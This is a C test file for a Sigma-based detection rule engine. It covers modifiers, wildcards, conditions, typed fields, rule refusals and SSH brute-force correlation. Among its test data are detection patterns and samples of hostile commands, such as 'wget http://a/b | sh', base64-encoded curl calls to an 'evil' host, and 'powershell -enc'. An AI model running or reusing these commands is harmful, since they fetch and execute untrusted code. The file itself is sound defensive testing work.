/*
 * Rule engine tests: Sigma rules written into a temporary directory,
 * loaded with the repository's rules/mapping.yml, and matched against
 * events built field by field.  Covers every modifier, wildcard and
 * escape semantics, condition precedence, quantifiers, keywords, numbers,
 * cidr, exists/null, case, event_count windows on event time, the generate
 * flag, refusals with file:line reasons, and the correlation table's
 * invariants (corr_state_check) through heavy churn and evictions.  With
 * the shared data present, also loads the SigmaHQ sample rules; without
 * it the rest runs and the test exits 77 (skipped) unless something
 * failed.
 *
 * Over 900 lines on purpose: it is the end-to-end test of the engine
 * (YAML in, alerts out) and its cases share one set of helpers; the value
 * translation alone is tested without YAML in test-sigma-value.c.
 */
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "soc-config.h"
#include "soc/event.h"
#include "soc/util.h"
#include "rules.h"
#include "rule-int.h"		/* corr_state_check */
#include "check.h"
#include "fixture.h"

#define MAPPING		SOC_SRCDIR "/rules/mapping.yml"
#define T0		(1700000000LL * 1000000000LL)
#define SEC		1000000000LL

static char	 errs[16384];
static size_t	 nerrs_seen;

struct got {
	int		 n;
	char		 title[8][128];
	char		 key[8][128];
	uint64_t	 count[8];
	int64_t		 first[8], last[8];
};

static void
on_err(void *arg, const char *msg)
{
	size_t len = strlen(errs);

	(void)arg;
	nerrs_seen++;
	if (getenv("TEST_VERBOSE"))
		fprintf(stderr, "  load: %s\n", msg);
	snprintf(errs + len, sizeof(errs) - len, "%s\n", msg);
}

static void
on_alert(void *arg, const struct rs_alert *a)
{
	struct got *g = arg;

	if (g->n < 8) {
		snprintf(g->title[g->n], sizeof(g->title[0]), "%s", rule_title(a->rule));
		snprintf(g->key[g->n], sizeof(g->key[0]), "%s", a->group_key);
		g->count[g->n] = a->count;
		g->first[g->n] = a->first_ts;
		g->last[g->n] = a->last_ts;
	}
	g->n++;
}

static char *
mktemp_dir(void)
{
	static char dir[64];

	snprintf(dir, sizeof(dir), "/tmp/test-rules.XXXXXX");
	if (mkdtemp(dir) == NULL) {
		perror("mkdtemp");
		exit(1);
	}
	return dir;
}

static void
write_file(const char *dir, const char *name, const char *text)
{
	char path[512];
	FILE *f;

	snprintf(path, sizeof(path), "%s/%s", dir, name);
	if ((f = fopen(path, "w")) == NULL) {
		perror(path);
		exit(1);
	}
	fputs(text, f);
	fclose(f);
}

/* Loads a directory with the repo mapping; errors collected in errs. */
static struct ruleset *
load_dir(const char *dir, size_t *nerr)
{
	const char *dirs[1] = { dir };

	errs[0] = '\0';
	return ruleset_load(dirs, 1, MAPPING, on_err, NULL, nerr);
}

/* One sshd rule around the given detection block. */
static struct ruleset *
one_rule(const char *detection, size_t *nerr)
{
	char text[8192], *dir = mktemp_dir();
	struct ruleset *rs;

	snprintf(text, sizeof(text),
	    "title: t\nid: 11111111-1111-4111-8111-111111111111\nlevel: low\n"
	    "logsource:\n  product: linux\n  service: sshd\n"
	    "detection:\n%s", detection);
	write_file(dir, "r.yml", text);
	rs = load_dir(dir, nerr);
	fx_rmtree(dir);
	return rs;
}

static void
ev_base(struct soc_event *ev, const char *dataset)
{
	soc_event_reset(ev);
	ev->ts = T0;
	soc_event_set_cstr(ev, SOC_F_EVENT_DATASET, dataset);
}

static int
nmatch(struct ruleset *rs, const struct soc_event *ev)
{
	struct rs_scratch *s = rs_scratch_new(rs);
	struct got g = { 0 };
	int n;

	n = ruleset_match(rs, s, ev, on_alert, &g);
	rs_scratch_free(s);
	return n == g.n ? n : -100;
}

/* Evaluates one detection against a message and user name. */
static int
try_msg(const char *det, const char *msg, const char *user)
{
	static struct soc_event ev;
	struct ruleset *rs;
	size_t nerr = 0;
	int n;

	if ((rs = one_rule(det, &nerr)) == NULL || ruleset_count(rs) != 1) {
		fprintf(stderr, "rule did not load:\n%s%s", det, errs);
		ruleset_free(rs);
		return -1;
	}
	ev_base(&ev, "log.sshd");
	if (msg != NULL)
		soc_event_set_cstr(&ev, SOC_F_MESSAGE, msg);
	if (user != NULL)
		soc_event_set_cstr(&ev, SOC_F_USER_NAME, user);
	n = nmatch(rs, &ev);
	ruleset_free(rs);
	return n;
}

static void
test_plain_and_wildcards(void)
{
	const char *d = "  sel:\n    user.name: Root\n  condition: sel\n";

	CHECK_INT(try_msg(d, NULL, "root"), 1);
	CHECK_INT(try_msg(d, NULL, "ROOT"), 1);
	CHECK_INT(try_msg(d, NULL, "rooty"), 0);
	CHECK_INT(try_msg(d, NULL, "xroot"), 0);
	CHECK_INT(try_msg(d, NULL, NULL), 0);
	d = "  sel:\n    user.name: 'ro*t'\n  condition: sel\n";
	CHECK_INT(try_msg(d, NULL, "rot"), 1);
	CHECK_INT(try_msg(d, NULL, "roXXXt"), 1);
	CHECK_INT(try_msg(d, NULL, "rootx"), 0);
	d = "  sel:\n    user.name: 'ro?t'\n  condition: sel\n";
	CHECK_INT(try_msg(d, NULL, "roxt"), 1);
	CHECK_INT(try_msg(d, NULL, "rot"), 0);
	CHECK_INT(try_msg(d, NULL, "roxxt"), 0);
	/* escapes: \* is a star, \\ a backslash, other \ stay */
	d = "  sel:\n    message: 'a\\*b'\n  condition: sel\n";
	CHECK_INT(try_msg(d, "a*b", NULL), 1);
	CHECK_INT(try_msg(d, "axb", NULL), 0);
	d = "  sel:\n    message: 'C:\\Windows\\\\*'\n  condition: sel\n";
	CHECK_INT(try_msg(d, "C:\\Windows\\system32", NULL), 1);
	CHECK_INT(try_msg(d, "C:\\Windowsx", NULL), 0);
	/* regex metacharacters are literal */
	d = "  sel:\n    message: 'a.b(c)+[d]'\n  condition: sel\n";
	CHECK_INT(try_msg(d, "a.b(c)+[d]", NULL), 1);
	CHECK_INT(try_msg(d, "aXb(c)+[d]", NULL), 0);
	/* list = OR, empty string, star alone */
	d = "  sel:\n    user.name:\n      - alice\n      - bob\n  condition: sel\n";
	CHECK_INT(try_msg(d, NULL, "bob"), 1);
	CHECK_INT(try_msg(d, NULL, "carol"), 0);
	d = "  sel:\n    user.name: ''\n  condition: sel\n";
	CHECK_INT(try_msg(d, NULL, ""), 1);
	CHECK_INT(try_msg(d, NULL, "x"), 0);
	d = "  sel:\n    user.name: '*'\n  condition: sel\n";
	CHECK_INT(try_msg(d, NULL, ""), 1);
	CHECK_INT(try_msg(d, NULL, NULL), 0);
	/* multi-line values: wildcards cross newlines */
	d = "  sel:\n    message: 'a*b'\n  condition: sel\n";
	CHECK_INT(try_msg(d, "a\nb", NULL), 1);
}

static void
test_string_modifiers(void)
{
	const char *d;

	d = "  sel:\n    message|contains: 'Failed pass'\n  condition: sel\n";
	CHECK_INT(try_msg(d, "sshd: failed password for x", NULL), 1);
	CHECK_INT(try_msg(d, "sshd: accepted", NULL), 0);
	d = "  sel:\n    message|startswith: 'sshd'\n  condition: sel\n";
	CHECK_INT(try_msg(d, "SSHD: x", NULL), 1);
	CHECK_INT(try_msg(d, "x sshd", NULL), 0);
	d = "  sel:\n    message|endswith: '.com'\n  condition: sel\n";
	CHECK_INT(try_msg(d, "evil.COM", NULL), 1);
	CHECK_INT(try_msg(d, "evil.com\n", NULL), 0);
	CHECK_INT(try_msg(d, "evil.co", NULL), 0);
	d = "  sel:\n    message|contains|all:\n      - foo\n      - bar\n"
	    "  condition: sel\n";
	CHECK_INT(try_msg(d, "bar and foo", NULL), 1);
	CHECK_INT(try_msg(d, "foo only", NULL), 0);
	d = "  sel:\n    message|contains: 'paste/*/raw'\n  condition: sel\n";
	CHECK_INT(try_msg(d, "GET /paste/abc/raw/1", NULL), 1);
	CHECK_INT(try_msg(d, "GET /paste/raw", NULL), 0);
	/* cased */
	d = "  sel:\n    message|cased: 'Foo'\n  condition: sel\n";
	CHECK_INT(try_msg(d, "Foo", NULL), 1);
	CHECK_INT(try_msg(d, "foo", NULL), 0);
	d = "  sel:\n    message|contains|cased: 'Foo'\n  condition: sel\n";
	CHECK_INT(try_msg(d, "xFoox", NULL), 1);
	CHECK_INT(try_msg(d, "xFOOx", NULL), 0);
	/* re: search, case-sensitive unless |i */
	d = "  sel:\n    message|re: 'fo+ba[rz]$'\n  condition: sel\n";
	CHECK_INT(try_msg(d, "xx foooobaz", NULL), 1);
	CHECK_INT(try_msg(d, "xx FOOBAR", NULL), 0);
	CHECK_INT(try_msg(d, "xx foobaq", NULL), 0);
	d = "  sel:\n    message|re|i: '^fo+bar'\n  condition: sel\n";
	CHECK_INT(try_msg(d, "FOOBAR", NULL), 1);
	/* base64 and base64offset */
	d = "  sel:\n    message|base64: 'hello'\n  condition: sel\n";
	CHECK_INT(try_msg(d, "aGVsbG8=", NULL), 1);
	CHECK_INT(try_msg(d, "AGVSBG8=", NULL), 0);	/* base64 is cased */
	d = "  sel:\n    message|base64offset|contains: 'http://'\n"
	    "  condition: sel\n";
	CHECK_INT(try_msg(d, "echo Y3VybCBodHRwOi8vZXZpbA== | base64 -d", NULL), 1);
	CHECK_INT(try_msg(d, "echo aHR0cDovL2V2aWw= | base64 -d", NULL), 1);
	CHECK_INT(try_msg(d, "echo aGVsbG8= | base64 -d", NULL), 0);
	/* windash: - and / and the unicode dashes at word starts */
	d = "  sel:\n    message|windash|contains: ' -enc '\n  condition: sel\n";
	CHECK_INT(try_msg(d, "powershell -enc AAA", NULL), 1);
	CHECK_INT(try_msg(d, "powershell /enc AAA", NULL), 1);
	CHECK_INT(try_msg(d, "powershell \xe2\x80\x93" "enc AAA", NULL), 1);
	CHECK_INT(try_msg(d, "powershell +enc AAA", NULL), 0);
}

#define NET	"    source.ip|cidr:\n      - 10.0.0.0/8\n      - '2001:db8::/32'\n"
#define HI	"    source.port|gte: 1024\n"
#define LO	"    source.port|lt: 100\n"
#define EXACT	"    source.port: 22\n"
#define IPEQ	"    source.ip: 192.0.2.7\n"
#define PORTSTR	"    source.port|startswith: '44'\n"
#define HAS	"    user.name|exists: true\n"
#define HASNT	"    user.name: null\n"

static void
test_typed(void)
{
	static struct soc_event ev;
	struct ruleset *rs;
	size_t nerr;
	struct soc_ip ip;
	struct {
		const char	*sel;
		const char	*ip;
		int		 port;		/* -1: absent */
		const char	*user;		/* NULL: absent */
		int		 want;
	} t[] = {
		{ NET, "10.1.2.3", 80, "u", 1 },
		{ NET, "11.1.2.3", 80, "u", 0 },
		{ NET, "2001:db8::1", 80, "u", 1 },
		{ NET, "2001:db9::1", 80, "u", 0 },
		{ HI, "1.1.1.1", 1024, "u", 1 },
		{ HI, "1.1.1.1", 1023, "u", 0 },
		{ HI, "1.1.1.1", -1, "u", 0 },
		{ LO, "1.1.1.1", 99, "u", 1 },
		{ LO, "1.1.1.1", 100, "u", 0 },
		{ EXACT, "1.1.1.1", 22, "u", 1 },
		{ EXACT, "1.1.1.1", 222, "u", 0 },
		{ IPEQ, "192.0.2.7", 1, "u", 1 },
		{ IPEQ, "192.0.2.70", 1, "u", 0 },
		{ PORTSTR, "1.1.1.1", 443, "u", 1 },
		{ PORTSTR, "1.1.1.1", 344, "u", 0 },
		{ HAS, "1.1.1.1", 1, "u", 1 },
		{ HAS, "1.1.1.1", 1, NULL, 0 },
		{ HASNT, "1.1.1.1", 1, NULL, 1 },
		{ HASNT, "1.1.1.1", 1, "", 0 },
	};
	char d[1024];

	for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
		int got;

		snprintf(d, sizeof(d), "  sel:\n%s  condition: sel\n", t[i].sel);
		rs = one_rule(d, &nerr);
		CHECK(rs != NULL && ruleset_count(rs) == 1);
		if (rs == NULL)
			continue;
		ev_base(&ev, "log.sshd");
		soc_ip_parse(t[i].ip, strlen(t[i].ip), &ip);
		soc_event_set_ip(&ev, SOC_F_SOURCE_IP, &ip);
		if (t[i].port >= 0)
			soc_event_set_int(&ev, SOC_F_SOURCE_PORT, t[i].port);
		if (t[i].user != NULL)
			soc_event_set_cstr(&ev, SOC_F_USER_NAME, t[i].user);
		got = nmatch(rs, &ev);
		if (got != t[i].want)
			fprintf(stderr, "typed case %zu (%s %d): got %d\n", i,
			    t[i].ip, t[i].port, got);
		CHECK_INT(got, t[i].want);
		ruleset_free(rs);
	}
	/* all of them in one rule, with an event that satisfies each */
	rs = one_rule("  a:\n" NET "  b:\n" HI "  c:\n" HAS
	    "  condition: all of them\n", &nerr);
	CHECK(rs != NULL && ruleset_count(rs) == 1 && nerr == 0);
	ev_base(&ev, "log.sshd");
	soc_ip_parse("10.0.0.1", 8, &ip);
	soc_event_set_ip(&ev, SOC_F_SOURCE_IP, &ip);
	soc_event_set_int(&ev, SOC_F_SOURCE_PORT, 5000);
	soc_event_set_cstr(&ev, SOC_F_USER_NAME, "x");
	CHECK_INT(nmatch(rs, &ev), 1);
	/* the same event in another dataset is not this rule's business */
	soc_event_set_cstr(&ev, SOC_F_EVENT_DATASET, "log.web");
	CHECK_INT(nmatch(rs, &ev), 0);
	ruleset_free(rs);
	/* network.vlan.id is keyword as in ECS, soc.network.vlan.id the
	 * integer it is derived from; a range on the keyword is refused */
	rs = one_rule("  a:\n    network.vlan.id: 100\n"
	    "  b:\n    soc.network.vlan.id|gte: 100\n  condition: a and b\n",
	    &nerr);
	CHECK(rs != NULL && ruleset_count(rs) == 1 && nerr == 0);
	ev_base(&ev, "log.sshd");
	soc_event_set_int(&ev, SOC_F_NET_VLAN_ID, 100);
	CHECK_INT(nmatch(rs, &ev), 1);
	soc_event_set_int(&ev, SOC_F_NET_VLAN_ID, 1000);
	CHECK_INT(nmatch(rs, &ev), 0);
	ruleset_free(rs);
	rs = one_rule("  a:\n    network.vlan.id|gt: 5\n  condition: a\n", &nerr);
	CHECK(rs != NULL && ruleset_count(rs) == 0 && nerr == 1);
	CHECK(strstr(errs, "network.vlan.id") != NULL);
	ruleset_free(rs);
}

static void
test_conditions(void)
{
	const char *sels =
	    "  a:\n    message|contains: aaa\n"
	    "  b:\n    message|contains: bbb\n"
	    "  c:\n    message|contains: ccc\n"
	    "  sel_x:\n    user.name: x\n"
	    "  sel_y:\n    user.name|startswith: x\n";
	char d[2048];

	/* not > and > or: a or (b and (not c)) */
	snprintf(d, sizeof(d), "%s  condition: a or b and not c\n", sels);
	CHECK_INT(try_msg(d, "bbb ccc", NULL), 0);
	CHECK_INT(try_msg(d, "bbb", NULL), 1);
	CHECK_INT(try_msg(d, "aaa ccc", NULL), 1);
	CHECK_INT(try_msg(d, "ccc", NULL), 0);
	snprintf(d, sizeof(d), "%s  condition: (a or b) and not c\n", sels);
	CHECK_INT(try_msg(d, "aaa ccc", NULL), 0);
	CHECK_INT(try_msg(d, "aaa", NULL), 1);
	snprintf(d, sizeof(d), "%s  condition: not a and not b\n", sels);
	CHECK_INT(try_msg(d, "zzz", NULL), 1);
	CHECK_INT(try_msg(d, "bbb", NULL), 0);
	snprintf(d, sizeof(d), "%s  condition: not (a or b)\n", sels);
	CHECK_INT(try_msg(d, "zzz", NULL), 1);
	CHECK_INT(try_msg(d, "aaa", NULL), 0);
	/* quantifiers */
	snprintf(d, sizeof(d), "%s  condition: all of sel_*\n", sels);
	CHECK_INT(try_msg(d, "m", "x"), 1);
	CHECK_INT(try_msg(d, "m", "xy"), 0);
	snprintf(d, sizeof(d), "%s  condition: 1 of sel_*\n", sels);
	CHECK_INT(try_msg(d, "m", "xy"), 1);
	CHECK_INT(try_msg(d, "m", "y"), 0);
	snprintf(d, sizeof(d), "%s  condition: 1 of them\n", sels);
	CHECK_INT(try_msg(d, "ccc", "zz"), 1);
	CHECK_INT(try_msg(d, "zzz", "zz"), 0);
	snprintf(d, sizeof(d), "%s  condition: all of them\n", sels);
	CHECK_INT(try_msg(d, "aaa bbb ccc", "x"), 1);
	CHECK_INT(try_msg(d, "aaa bbb", "x"), 0);
	/* list of maps = OR; map = AND */
	d[0] = '\0';
	snprintf(d, sizeof(d), "  sel:\n    - message|contains: aaa\n"
	    "      user.name: u\n    - message|contains: bbb\n  condition: sel\n");
	CHECK_INT(try_msg(d, "aaa", "u"), 1);
	CHECK_INT(try_msg(d, "aaa", "v"), 0);
	CHECK_INT(try_msg(d, "bbb", "v"), 1);
	/* keywords: substring on message, wildcards inside */
	snprintf(d, sizeof(d), "  keywords:\n    - 'stack smashing'\n"
	    "    - 'wget * | sh'\n  condition: keywords\n");
	CHECK_INT(try_msg(d, "*** STACK SMASHING detected ***", NULL), 1);
	CHECK_INT(try_msg(d, "x; wget http://a/b | sh; y", NULL), 1);
	CHECK_INT(try_msg(d, "wget http://a/b", NULL), 0);
	/* a rule that needs no pattern hit (only "not") is still evaluated */
	snprintf(d, sizeof(d), "%s  condition: not a\n", sels);
	CHECK_INT(try_msg(d, "zzz", NULL), 1);
}

/* neq, keyword lists with modifiers, time modifiers, fieldref: end to end. */
static void
test_more_modifiers(void)
{
	const char *d = "  sel:\n    user.name|neq: root\n  condition: sel\n";

	CHECK_INT(try_msg(d, NULL, "admin"), 1);
	CHECK_INT(try_msg(d, NULL, "ROOT"), 0);
	CHECK_INT(try_msg(d, NULL, NULL), 1);
	d = "  kw:\n    '|all':\n      - Failed\n      - root\n  condition: kw\n";
	CHECK_INT(try_msg(d, "Failed password for root", NULL), 1);
	CHECK_INT(try_msg(d, "Failed password for admin", NULL), 0);
	d = "  kw:\n    '|startswith':\n      - Fail\n      - Accept\n"
	    "  condition: kw\n";
	CHECK_INT(try_msg(d, "Accepted key", NULL), 1);
	CHECK_INT(try_msg(d, "x Accepted key", NULL), 0);
	/* T0 is 2023-11-14 22:13:20 UTC, ISO week 46 */
	d = "  sel:\n    '@timestamp|hour': 22\n  condition: sel\n";
	CHECK_INT(try_msg(d, "x", NULL), 1);
	d = "  sel:\n    '@timestamp|hour': 21\n  condition: sel\n";
	CHECK_INT(try_msg(d, "x", NULL), 0);
	d = "  sel:\n    '@timestamp|minute|gte': 13\n"
	    "    '@timestamp|day': 14\n    '@timestamp|month': 11\n"
	    "    '@timestamp|year': 2023\n    '@timestamp|week': 46\n"
	    "  condition: sel\n";
	CHECK_INT(try_msg(d, "x", NULL), 1);
	d = "  sel:\n    user.name|fieldref: message\n  condition: sel\n";
	CHECK_INT(try_msg(d, "root", "root"), 1);
	CHECK_INT(try_msg(d, "root", "Root"), 0);
	CHECK_INT(try_msg(d, NULL, "root"), 0);
	d = "  sel:\n    user.name|fieldref|neq: message\n  condition: sel\n";
	CHECK_INT(try_msg(d, "root", "admin"), 1);
}

/* Characters, not bytes; a value that is not UTF-8 still matches bytewise. */
static void
test_characters(void)
{
	const char *d = "  sel:\n    user.name: 'r?t'\n  condition: sel\n";

	CHECK_INT(try_msg(d, NULL, "r\xc3\xa9t"), 1);		/* é: one character */
	CHECK_INT(try_msg(d, NULL, "r\xe2\x82\xact"), 1);	/* € */
	CHECK_INT(try_msg(d, NULL, "r\xf0\x9f\x98\x80t"), 1);	/* U+1F600 */
	CHECK_INT(try_msg(d, NULL, "r\xfft"), 1);		/* not UTF-8 */
	CHECK_INT(try_msg(d, NULL, "rxxt"), 0);
	d = "  sel:\n    user.name: 'r??t'\n  condition: sel\n";
	CHECK_INT(try_msg(d, NULL, "r\xc3\xa9t"), 0);
	CHECK_INT(try_msg(d, NULL, "r\xc3\xa9xt"), 1);
	d = "  sel:\n    user.name|re: '^r.t$'\n  condition: sel\n";
	CHECK_INT(try_msg(d, NULL, "r\xc3\xa9t"), 1);
	CHECK_INT(try_msg(d, NULL, "r\xfft"), 1);
	d = "  sel:\n    user.name|re: '^r..t$'\n  condition: sel\n";
	CHECK_INT(try_msg(d, NULL, "r\xc3\xa9t"), 0);
	CHECK_INT(try_msg(d, NULL, "r\xc3\xa9t\xff"), 0);
	CHECK_INT(try_msg(d, NULL, "r\xe9xt"), 1);	/* Latin-1: bytewise */
	d = "  sel:\n    user.name|re|i: '^\xc3\x89RIC$'\n  condition: sel\n";
	CHECK_INT(try_msg(d, NULL, "\xc3\xa9ric"), 1);		/* É folds to é */
	CHECK_INT(try_msg(d, NULL, "eric"), 0);
	d = "  sel:\n    user.name|re: '^\xc3\x89RIC$'\n  condition: sel\n";
	CHECK_INT(try_msg(d, NULL, "\xc3\xa9ric"), 0);		/* cased without i */
}

static bool
has_err(const char *frag)
{
	return strstr(errs, frag) != NULL;
}

static void
test_refusals(void)
{
	char *dir = mktemp_dir();
	struct ruleset *rs;
	size_t nerr = 0;
	const char *head = "logsource:\n  product: linux\n  service: sshd\n";
	char text[1024];

	snprintf(text, sizeof(text), "title: good\nid: g1\n%sdetection:\n"
	    "  sel:\n    message|contains: fine\n  condition: sel\n", head);
	write_file(dir, "a-good.yml", text);
	snprintf(text, sizeof(text), "title: badmod\nid: b1\n%sdetection:\n"
	    "  sel:\n    message|sortof: x\n  condition: sel\n", head);
	write_file(dir, "b-mod.yml", text);
	snprintf(text, sizeof(text), "title: badfield\nid: b2\n%sdetection:\n"
	    "  sel:\n    NoSuchField: x\n  condition: sel\n", head);
	write_file(dir, "c-field.yml", text);
	snprintf(text, sizeof(text), "title: badcond\nid: b3\n%sdetection:\n"
	    "  sel:\n    message: x\n  condition: sel and (sel\n", head);
	write_file(dir, "d-cond.yml", text);
	snprintf(text, sizeof(text), "title: badre\nid: b4\n%sdetection:\n"
	    "  sel:\n    message|re: '(a)\\1'\n  condition: sel\n", head);
	write_file(dir, "e-re.yml", text);
	snprintf(text, sizeof(text), "title: agg\nid: b5\n%sdetection:\n"
	    "  sel:\n    message: x\n  condition: sel | count() > 5\n", head);
	write_file(dir, "f-agg.yml", text);
	snprintf(text, sizeof(text), "title: unknownsel\nid: b6\n%sdetection:\n"
	    "  sel:\n    message: x\n  condition: other\n", head);
	write_file(dir, "g-sel.yml", text);
	/* file_access: kernel ETW, in no Windows log (rules/mapping.yml) */
	write_file(dir, "h-ls.yml", "title: win\nid: b7\nlogsource:\n"
	    "  product: windows\n  category: file_access\ndetection:\n"
	    "  sel:\n    Image: x\n  condition: sel\n");
	write_file(dir, "i-yaml.yml", "title: [unclosed\n");
	snprintf(text, sizeof(text), "title: badcidr\nid: b8\n%sdetection:\n"
	    "  sel:\n    source.ip|cidr: 10.0.0.0/99\n  condition: sel\n", head);
	write_file(dir, "j-cidr.yml", text);
	snprintf(text, sizeof(text), "title: cidrstr\nid: b9\n%sdetection:\n"
	    "  sel:\n    user.name|cidr: 10.0.0.0/8\n  condition: sel\n", head);
	write_file(dir, "k-cidr.yml", text);
	write_file(dir, "l-vc.yml", "title: vc\nid: b10\ncorrelation:\n"
	    "  type: value_sum\n  rules: [g1]\n  timespan: 1m\n"
	    "  condition:\n    gte: 3\n    field: user.name\n");
	write_file(dir, "m-ref.yml", "title: ref\nid: b11\ncorrelation:\n"
	    "  type: event_count\n  rules:\n    - nosuchrule\n  timespan: 1m\n"
	    "  condition:\n    gte: 3\n");
	write_file(dir, "n-lt.yml", "title: lt\nid: b12\ncorrelation:\n"
	    "  type: event_count\n  rules: [g1]\n  timespan: 1m\n"
	    "  condition:\n    gte: 5\n    lte: 3\n");
	snprintf(text, sizeof(text), "title: expand\nid: b13\n%sdetection:\n"
	    "  sel:\n    message|expand: '%%x%%'\n  condition: sel\n", head);
	write_file(dir, "o-expand.yml", text);
	snprintf(text, sizeof(text), "title: numstr\nid: b14\n%sdetection:\n"
	    "  sel:\n    message|gt: 5\n  condition: sel\n", head);
	write_file(dir, "p-num.yml", text);

	rs = load_dir(dir, &nerr);
	CHECK(rs != NULL);
	if (getenv("TEST_VERBOSE"))
		fputs(errs, stderr);
	CHECK_INT(ruleset_count(rs), 1);
	CHECK_STR(rule_title(ruleset_rule(rs, 0)), "good");
	CHECK_INT(nerr, 15);
#define ERRAT(file, line, what) do { \
	char want_[512]; \
	snprintf(want_, sizeof(want_), "%s/%s:%d: %s", dir, file, line, what); \
	if (!has_err(want_)) fprintf(stderr, "missing error: %s\n", want_); \
	CHECK(has_err(want_)); \
} while (0)
	ERRAT("b-mod.yml", 8, "unknown modifier 'sortof'");
	ERRAT("c-field.yml", 8, "unknown field 'NoSuchField'");
	ERRAT("d-cond.yml", 9, "missing ')'");
	ERRAT("e-re.yml", 8, "regex /(a)\\1/ refused by Hyperscan");
	ERRAT("f-agg.yml", 9, "aggregation");
	ERRAT("g-sel.yml", 9, "condition names unknown selection 'other'");
	ERRAT("h-ls.yml", 4, "logsource (product=windows");
	ERRAT("i-yaml.yml", 2, "YAML");
	ERRAT("j-cidr.yml", 8, "bad CIDR");
	ERRAT("k-cidr.yml", 8, "cidr needs an IP field");
	ERRAT("l-vc.yml", 4, "metric field 'user.name' is not an integer field");
	ERRAT("m-ref.yml", 6, "correlation references unknown or refused rule 'nosuchrule'");
	ERRAT("n-lt.yml", 8, "condition can never hold (5..3)");
	ERRAT("o-expand.yml", 8, "expand needs a placeholders.yml");
	ERRAT("p-num.yml", 8, "numeric comparison on non-numeric field message");
#undef ERRAT
	ruleset_free(rs);
	fx_rmtree(dir);
}

/* ---------------------------------------------------------------- */
/* correlation */

static const char *corr_rules =
    "title: fail\nname: fail\nid: 22222222-2222-4222-8222-222222222222\n"
    "level: low\nlogsource:\n  product: linux\n  service: sshd\n"
    "detection:\n  sel:\n    event.action: ssh_login\n"
    "    event.outcome: failure\n  condition: sel\n"
    "---\n"
    "title: brute\nid: 33333333-3333-4333-8333-333333333333\nlevel: high\n"
    "correlation:\n  type: event_count\n  rules:\n    - fail\n"
    "  group-by:\n    - source.ip\n    - user\n  timespan: 1m\n"
    "  condition:\n    gte: 3\n%s";

static struct ruleset *
corr_load(const char *extra)
{
	char text[4096], *dir = mktemp_dir();
	struct ruleset *rs;
	size_t nerr;

	snprintf(text, sizeof(text), corr_rules, extra);
	write_file(dir, "c.yml", text);
	rs = load_dir(dir, &nerr);
	fx_rmtree(dir);
	if (nerr != 0)
		fputs(errs, stderr);
	return rs;
}

static void
fail_event(struct soc_event *ev, int64_t ts, const char *ip, const char *user)
{
	struct soc_ip a;

	ev_base(ev, "log.sshd");
	ev->ts = ts;
	soc_event_set_cstr(ev, SOC_F_EVENT_ACTION, "ssh_login");
	soc_event_set_cstr(ev, SOC_F_EVENT_OUTCOME, "failure");
	soc_ip_parse(ip, strlen(ip), &a);
	soc_event_set_ip(ev, SOC_F_SOURCE_IP, &a);
	soc_event_set_cstr(ev, SOC_F_USER_NAME, user);
}

static void
test_event_count(void)
{
	static struct soc_event ev;
	struct ruleset *rs = corr_load("");
	struct rs_scratch *s;
	struct got g = { 0 };
	size_t keys;
	uint64_t ev_count;

	CHECK(rs != NULL && ruleset_count(rs) == 2);
	if (rs == NULL)
		return;
	CHECK(rule_is_correlation(ruleset_rule(rs, 1)));
	s = rs_scratch_new(rs);
	/* two hits, then a third for another user: no alert (group-by) */
	fail_event(&ev, T0, "1.2.3.4", "root");
	CHECK_INT(ruleset_match(rs, s, &ev, on_alert, &g), 0);
	fail_event(&ev, T0 + 10 * SEC, "1.2.3.4", "root");
	CHECK_INT(ruleset_match(rs, s, &ev, on_alert, &g), 0);
	fail_event(&ev, T0 + 20 * SEC, "1.2.3.4", "admin");
	CHECK_INT(ruleset_match(rs, s, &ev, on_alert, &g), 0);
	fail_event(&ev, T0 + 30 * SEC, "1.2.3.5", "root");
	CHECK_INT(ruleset_match(rs, s, &ev, on_alert, &g), 0);
	/* an out-of-window (too old) event does not count */
	fail_event(&ev, T0 - 120 * SEC, "1.2.3.4", "root");
	CHECK_INT(ruleset_match(rs, s, &ev, on_alert, &g), 0);
	/* the third in the window fires, once */
	fail_event(&ev, T0 + 40 * SEC, "1.2.3.4", "root");
	CHECK_INT(ruleset_match(rs, s, &ev, on_alert, &g), 1);
	CHECK_STR(g.title[0], "brute");
	CHECK_STR(g.key[0], "source.ip=1.2.3.4,user.name=root");
	CHECK_INT(g.count[0], 3);
	CHECK_INT(g.first[0], T0);
	CHECK_INT(g.last[0], T0 + 40 * SEC);
	/*
	 * while the condition holds, each further event alerts with count 1
	 * (an incident that adds counts ends with the number of events)
	 */
	for (int i = 41; i <= 43; i++) {
		fail_event(&ev, T0 + i * SEC, "1.2.3.4", "root");
		CHECK_INT(ruleset_match(rs, s, &ev, on_alert, &g), 1);
		CHECK_INT(g.count[g.n - 1], 1);
		CHECK_INT(g.last[g.n - 1], T0 + i * SEC);
	}
	/* once the window slid below 3, the next crossing counts afresh */
	fail_event(&ev, T0 + 200 * SEC, "1.2.3.4", "root");
	CHECK_INT(ruleset_match(rs, s, &ev, on_alert, &g), 0);
	fail_event(&ev, T0 + 201 * SEC, "1.2.3.4", "root");
	CHECK_INT(ruleset_match(rs, s, &ev, on_alert, &g), 0);
	fail_event(&ev, T0 + 202 * SEC, "1.2.3.4", "root");
	CHECK_INT(ruleset_match(rs, s, &ev, on_alert, &g), 1);
	CHECK_INT(g.count[g.n - 1], 3);
	/* slide: events 50s apart never have 3 within a minute */
	for (int i = 0; i < 6; i++) {
		fail_event(&ev, T0 + 1000 * SEC + i * 50 * SEC, "9.9.9.9", "root");
		CHECK_INT(ruleset_match(rs, s, &ev, on_alert, &g), 0);
	}
	/* out of order but inside the window counts */
	fail_event(&ev, T0 + 2000 * SEC, "8.8.8.8", "u");
	ruleset_match(rs, s, &ev, on_alert, &g);
	fail_event(&ev, T0 + 1990 * SEC, "8.8.8.8", "u");
	ruleset_match(rs, s, &ev, on_alert, &g);
	fail_event(&ev, T0 + 1995 * SEC, "8.8.8.8", "u");
	CHECK_INT(ruleset_match(rs, s, &ev, on_alert, &g), 1);
	CHECK_INT(g.first[g.n - 1], T0 + 1990 * SEC);
	CHECK_INT(g.last[g.n - 1], T0 + 2000 * SEC);
	/* expiry drops stale keys */
	ruleset_corr_stats(rs, &keys, &ev_count);
	CHECK(keys > 0);
	ruleset_expire(rs, soc_now_ns());	/* wall clock: all just touched */
	ruleset_corr_stats(rs, &keys, &ev_count);
	CHECK(keys > 0);
	ruleset_expire(rs, soc_now_ns() + 100000 * SEC);
